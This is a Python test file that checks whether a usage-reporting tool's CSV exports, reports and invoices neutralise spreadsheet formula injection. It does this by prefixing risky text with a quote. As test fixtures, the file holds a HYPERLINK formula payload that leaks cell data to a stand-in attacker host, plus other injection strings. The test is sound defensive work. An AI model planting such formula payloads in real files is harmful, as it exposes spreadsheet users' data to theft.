"""Every CSV is spreadsheet-safe: text a client chose (user ids, tenants, endpoints, attributes) that a
spreadsheet would run as a formula gets a single quote before it, in the export ClickHouse renders,
in reports (CLI and HTTP) and in invoices; numbers stay numbers, negative ones included."""

from __future__ import annotations

import csv
import io
import urllib.request
from datetime import UTC, datetime

import pytest
from typer.testing import CliRunner

from spendscope.cli import app
from spendscope.store import Store, formatting
from spendscope.store import reports as r
from spendscope.store.formatting import csv_field, spreadsheet_text
from tests.store_fixtures import llm_record, serve_reports
from tests.test_export import assert_same_cells, clickhouse_csv, python_csv

NOV, DEC = datetime(2026, 11, 1, tzinfo=UTC), datetime(2026, 12, 1, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE = {
    "user": FORMULA,
    "endpoint": "+SUM(1,2)",
    "tenant": "@cmd",
    "model": "-2+3",
}


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("u-42", "u-42"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)
def test_text_that_starts_a_formula_gets_a_quote(text: str, safe: str) -> None:
    assert spreadsheet_text(text) == safe
    assert csv_field(text) == safe


def test_numbers_stay_numbers() -> None:
    from decimal import Decimal

    assert [csv_field(v) for v in (-5, Decimal("-0.5"), -1.5, 0, None, True)] == [
        "-5",
        "-0.5",
        "-1.5",
        "0",
        "",
        "true",
    ]


@pytest.fixture
def hostile(store: Store, monkeypatch: pytest.MonkeyPatch) -> Store:
    monkeypatch.delenv("SPENDSCOPE_STORE", raising=False)
    monkeypatch.delenv("SPENDSCOPE_MARGIN_PERCENT", raising=False)
    at = datetime(2026, 11, 3, 10, tzinfo=UTC)
    store.insert_spans(
        [
            llm_record(at, **HOSTILE, cost=None, extra={"note": "=1+1", "job": "\t=cmd"}),
            llm_record(at.replace(hour=11), user="-5", tenant="acme"),
        ]
    )
    return store


def test_the_export_quotes_text_and_leaves_numbers(hostile: Store) -> None:
    mine = clickhouse_csv(hostile, since=NOV, until=DEC)
    assert_same_cells(mine, python_csv(r.export_calls(hostile, since=NOV, until=DEC)))  # both renderings
    rows = [dict(zip(mine[0], row, strict=True)) for row in mine[1:]]
    first, second = rows
    assert first["user"] == "'" + FORMULA
    assert (first["endpoint"], first["tenant"]) == ("'+SUM(1,2)", "'@cmd")
    assert first["request_model"] == "'-2+3"
    assert first["attributes"] == '{"job":"\\t=cmd","note":"=1+1"}'  # JSON: begins with {
    assert second["user"] == "'-5"
    assert (second["input_tokens"], second["cost_usd"]) == ("100", "0.000027")
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(formatting.FORMULA_STARTS), (column, cell)


def test_reports_and_invoices_quote_text(hostile: Store, store_dsn: str) -> None:
    by_user = r.report(hostile, by="user", since=NOV, until=DEC)
    table = list(csv.reader(io.StringIO(formatting.to_csv(by_user))))
    users = {row[0] for row in table[1:]}
    assert users == {"'" + FORMULA, "'-5"}
    with serve_reports(hostile) as url:
        answer = urllib.request.urlopen(f"{url}/api/usage/report?by=tenant&since=2026-11-01&format=csv")
        tenants = {row[0] for row in list(csv.reader(io.StringIO(answer.read().decode())))[1:]}
    assert tenants == {"'@cmd", "acme"}
    invoice = CliRunner().invoke(
        app, ["invoice", "--tenant", "@cmd", "--month", "2026-11", "--format", "csv", "--store", store_dsn]
    )
    assert invoice.exit_code == 0, invoice.output
    facts = dict(csv.reader(io.StringIO(invoice.stdout.partition("\n\n")[0])))
    assert facts["invoice"] == "'@cmd"
